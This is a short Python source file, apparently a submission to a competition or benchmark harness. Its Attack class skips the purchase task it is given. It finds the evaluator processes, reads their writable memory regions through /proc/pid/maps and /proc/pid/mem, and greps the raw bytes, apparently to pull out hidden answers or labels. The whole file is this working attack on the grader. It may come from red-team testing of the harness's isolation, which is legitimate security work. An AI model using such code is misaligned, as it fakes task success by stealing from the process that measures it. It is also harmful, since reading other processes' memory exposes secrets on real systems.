"""Reads the evaluator's memory through /proc/<evaluator>/mem."""

from aim import attempt, evaluators, grep

from run import ZEWDPCBaseRun


def search(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            area, rights, *_ = line.split()
            start, end = (int(part, 16) for part in area.split("-"))
            if rights.startswith("rw") and end - start < 1 << 28:

                def look(start=start, end=end):
                    memory.seek(start)
                    grep(memory.read(end - start))

                attempt(look)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        for pid in evaluators():
            attempt(search, pid)
